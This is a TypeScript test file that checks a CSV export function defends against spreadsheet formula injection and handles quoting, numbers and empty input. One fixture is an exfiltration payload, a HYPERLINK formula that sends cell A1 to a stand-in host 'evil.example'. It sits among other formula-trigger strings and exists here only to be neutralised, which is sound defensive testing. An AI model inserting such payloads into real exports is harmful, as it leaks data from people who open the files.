import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

describe('toCsv', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    const csv = toCsv([
      ['name', 'value'],
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 1],
      ['+1+1', 2],
      ['-2+3', 3],
      ['@SUM(A1)', 4],
      ['\tcmd', 5],
      ['\rcmd', 6],
    ]);
    const cells = Papa.parse<string[]>(csv.trim())
      .data.slice(1)
      .map((r) => r[0]);
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tcmd",
      "'\rcmd",
    ]);
  });

  it('leaves numbers numeric, negative ones and numeric text included', () => {
    expect(toCsv([[-12.5, '-12.50', '0.0001', 3]])).toBe('-12.5,-12.50,0.0001,3\n');
  });

  it('quotes commas, quotes and line breaks, and writes empty cells for null', () => {
    expect(toCsv([['a,b', 'say "hi"', 'x\ny', null, undefined]])).toBe('"a,b","say ""hi""","x\ny",,\n');
  });

  it('answers nothing for no rows', () => {
    expect(toCsv([])).toBe('');
  });
});
